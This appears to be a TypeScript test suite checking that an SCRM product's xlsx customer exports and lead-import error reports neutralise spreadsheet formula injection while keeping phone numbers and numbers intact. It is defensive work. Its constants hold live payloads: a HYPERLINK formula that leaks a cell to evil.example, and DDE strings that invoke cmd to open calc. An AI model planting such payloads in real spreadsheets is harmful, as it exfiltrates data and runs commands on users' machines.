// Hole 8 of issue 14: what the product writes to xlsx (exports, error reports) never starts a cell with a
// formula, phone numbers and numbers stay as they are, and a neutralised error report imports back as it was.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import { sql } from 'drizzle-orm';
import { createTestApp, type TestApp, type TestClient } from '../testing/test-app.ts';
import { readXlsx } from '../modules/customers/customers.testing.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点我查看")';
const DDE = "-2+3+cmd|' /C calc'!A0";
const AT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const TAB = '\t=1+1';

async function workbook(rows: unknown[][]): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('Sheet1');
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await book.xlsx.writeBuffer());
}

async function upload(t: TestApp, token: string, name: string, content: Buffer) {
  const boundary = `----formula${Math.random().toString(16).slice(2)}`;
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\r\n\r\n`),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  const response = await t.app.inject({ method: 'POST', url: '/scrm/admin/clue/import', payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, token } });
  return { status: response.statusCode, body: response.json() };
}

describe('spreadsheet formulas in what the product writes', () => {
  let t: TestApp;
  let admin: TestClient & { token: string };

  before(async () => {
    t = await createTestApp();
    admin = await t.login();
  });
  after(() => t.close());

  test('the customer export neutralises formula-like texts and keeps phone numbers and numbers', async () => {
    const now = new Date(t.clock.now).toISOString();
    await t.db.execute(sql`INSERT INTO customer (external_userid, name, corp_name) VALUES ('wm_formula_1', ${HYPERLINK}, ${AT})`);
    await t.db.execute(sql`
      INSERT INTO customer_relation (external_userid, userid, remark, description, remark_corp_name, remark_mobiles, state, createtime)
      VALUES ('wm_formula_1', 'emp_formula', ${DDE}, ${TAB}, '-3', ${JSON.stringify(['+86 138 0013 8000', '+8613900000001'])}::jsonb, '+1.5e3', ${now}::timestamptz)`);
    const exported = await admin.post('/scrm/admin/cust/emp/export', {});
    assert.equal(exported.status, 200);
    const rows = await readXlsx(exported.raw.rawPayload);
    const row = rows.find((cells) => cells[rows[0].indexOf('客户ID')] === 'wm_formula_1');
    assert.ok(row, 'the relation is exported');
    const cell = (header: string) => row[rows[0].indexOf(header)];
    assert.equal(cell('客户名称'), `'${HYPERLINK}`);
    assert.equal(cell('客户企业'), `'${AT}`);
    assert.equal(cell('备注'), `'${DDE}`);
    assert.equal(cell('描述'), `'${TAB}`);
    assert.equal(cell('备注企业'), '-3');
    assert.equal(cell('备注手机号'), '+86 138 0013 8000,+8613900000001');
    // A state SCRM did not make reads 未知渠道; the raw state is its own column, neutralised like any text.
    assert.equal(cell('渠道'), '未知渠道');
    assert.equal(cell('渠道参数'), '+1.5e3');
    // Nothing in the whole sheet starts like a formula (a quote in front is text).
    for (const cells of rows) {
      for (const text of cells) assert.ok(!/^[=@\t\r]/.test(text) && !/^[+-].*[^\d +\-().,%eE]/.test(text), JSON.stringify(text));
    }
  });

  test('the lead import error report neutralises the rows it repeats; the report, fixed and uploaded again, imports the original values', async () => {
    const content = await workbook([
      ['姓名', '手机号', '公司', '备注'],
      [HYPERLINK, '12345', AT, '+86 138 0013 8000'],
      ['正常', '13900000077', '-3', TAB],
      [DDE, 'not-a-phone', '普通公司', '-3'],
    ]);
    const started = await upload(t, admin.token, 'formulas.xlsx', content);
    assert.equal(started.status, 200, JSON.stringify(started.body));
    const job = await t.jobs.waitFor(started.body.date.jobId);
    assert.equal(job.state, 'completed', job.error ?? '');
    const imported = (await admin.get('/scrm/admin/clue/import/get', { id: started.body.date.id })).body.date;
    assert.equal(imported.invalidRows, 2);

    const report = await t.app.inject({ method: 'GET', url: imported.reportUrl, headers: { token: admin.token } });
    assert.equal(report.statusCode, 200);
    const rows = await readXlsx(report.rawPayload);
    const header = rows[0];
    const at = (row: string[], name: string) => row[header.indexOf(name)];
    const [first, second] = rows.slice(1);
    assert.equal(at(first, '姓名'), `'${HYPERLINK}`);
    assert.equal(at(first, '公司'), `'${AT}`);
    assert.equal(at(first, '备注'), '+86 138 0013 8000');
    assert.equal(at(second, '姓名'), `'${DDE}`);
    assert.equal(at(second, '备注'), '-3');

    // The stored valid row keeps its text as typed (neutralising is for what is written, not what is stored).
    const stored = await t.db.execute<{ company: string; remark: string }>(sql`SELECT company, remark FROM lead WHERE primary_phone = '13900000077'`);
    assert.deepEqual(stored.rows, [{ company: '-3', remark: '=1+1' }]);

    // Fix the phones in the report and upload it again: the neutralised texts come back as they were.
    const fixed = rows.map((row, index) => (index === 0 ? row : row.map((text, column) => (header[column] === '手机号' ? `1390000008${index}` : text))));
    const again = await upload(t, admin.token, 'report-fixed.xlsx', await workbook(fixed));
    assert.equal(again.status, 200, JSON.stringify(again.body));
    assert.equal((await t.jobs.waitFor(again.body.date.jobId)).state, 'completed');
    const reimported = await t.db.execute<{ name: string; company: string; remark: string }>(
      sql`SELECT name, company, remark FROM lead WHERE primary_phone IN ('13900000081', '13900000082') ORDER BY primary_phone`,
    );
    assert.deepEqual(reimported.rows, [
      { name: HYPERLINK, company: AT, remark: '+86 138 0013 8000' },
      { name: DDE, company: '普通公司', remark: '-3' },
    ]);
  });
});
